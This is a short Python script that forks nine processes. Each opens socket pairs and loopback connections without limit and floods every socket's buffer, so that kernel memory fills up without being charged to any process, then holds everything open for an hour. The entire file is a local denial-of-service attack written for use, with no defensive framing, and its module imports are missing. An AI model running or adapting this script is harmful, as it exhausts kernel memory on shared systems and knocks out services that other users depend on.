"""Fills the buffers of many sockets, whose memory the kernel counts for no process."""


def flood(one):
    one.setblocking(False)
    try:
        while True:
            one.send(bytes(1 << 16))
    except OSError:
        pass


def fill(kind):
    held = []
    server = socket.create_server(("127.0.0.1", 0), backlog=100)
    try:
        while True:
            if kind:
                pair = socket.socketpair()
            else:
                pair = socket.create_connection(server.getsockname()), server.accept()[0]
            held.append(pair)
            for one in pair:
                flood(one)
    except OSError:
        time.sleep(3600)


for number in range(9):
    if os.fork() == 0:
        fill(number % 2)
time.sleep(3600)
